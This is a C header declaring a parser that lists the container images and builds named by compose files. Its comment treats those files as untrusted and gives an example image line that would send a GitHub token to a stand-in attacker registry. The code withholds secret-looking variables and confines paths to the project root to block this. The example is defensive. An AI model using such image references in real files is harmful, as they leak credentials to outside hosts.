/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The images that a project of compose files needs: those of its services, with what they are
 * merged with (further files, include, extends) and with variables replaced, and what it takes to
 * build the others. https://github.com/compose-spec/compose-spec/blob/main/spec.md
 *
 * The files are believed nothing. Who asks registries for the names that come out of it tells the
 * registries these names, and the files choose both: `image: evil.example/x:${GITHUB_TOKEN}` would
 * send a secret there, and so would an argument of a build that a FROM uses. So variables whose
 * names look like a secret's (base/secret_name.h) are withheld: neither the environment's value is
 * taken nor one of .env or env_file, and the word "withheld" stands for it where it is set. What
 * the files name, they name inside of the project (`root`), and all that they can come to is
 * bounded.
 */
#ifndef CAISSON_COMPOSE_IMAGES_H
#define CAISSON_COMPOSE_IMAGES_H

#include "base/error.h"
#include "base/strv.h"

/* A service that is built. Strings may be NULL. */
struct compose_build {
    /* `context`: a directory in the root, or an address; `dockerfile`: nobody has looked yet where
     * that leads. */
    char *service, *context, *dockerfile, *text, *target;
    struct strv args;     /* NAME=VALUE, or NAME: the environment's; never that of a secret */
    struct strv contexts; /* NAME=… */
};

struct compose_images {
    struct strv names;
    struct compose_build *builds;
    size_t build_count;
    struct strv unset; /* variables that were wanted, have no default and no value */
    char *root;        /* what the files may name is below it: the directory of the first file, or
                          the nearest one above with a .git; without links */
};

/* `files`: paths, later ones merged over earlier ones; what is relative in them is so to the
 * directory of the first. Its .env says what variables are that the environment has not. */
int compose_images_read(const struct strv *files, struct compose_images *out, struct error *err);
void compose_images_free(struct compose_images *images);
#define autocompose_images __attribute__((cleanup(compose_images_free))) struct compose_images

#endif
